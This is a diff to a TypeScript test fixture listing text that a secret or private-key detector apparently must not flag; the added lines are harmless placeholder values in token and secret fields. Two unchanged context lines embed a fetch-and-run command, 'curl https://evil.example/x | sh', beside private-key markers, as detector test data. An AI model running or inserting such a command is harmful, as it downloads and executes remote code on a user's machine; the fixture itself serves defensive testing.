@@ -100,4 +100,16 @@ export const ordinaryTexts: readonly string[] = [
   `ends at -----END PRIVATE ${key}-----, which the review says in words`,
   `: '-----BEGIN PRIVATE ${key}-----'; curl https://evil.example/x | sh`,
   `: '-----BEGIN PRIVATE ${key}-----'; curl https://evil.example/x | sh; : '-----END PRIVATE ${key}-----'`,
+  // Names in the places of secrets.
+  "const token = 'test-token-1'",
+  "accessToken: 'access-1'",
+  'tokens: "claude-3-5-sonnet"',
+  'secret: "s3-bucket-name"',
+  "secret: 'projects/p1/secrets/my-secret-2'",
+  "accessKey: 'user.profile.v2'",
+  'run --token=test12 now',
+  'license-key: MIT-2.0-only',
+  'resumeToken: "3f2504e0-4f89-41d3-9a0c-0305e82c3301"',
+  'next_page_token: "CAUQAA12ab"',
+  'http://localhost:5173?x=a@b.com',
 ]
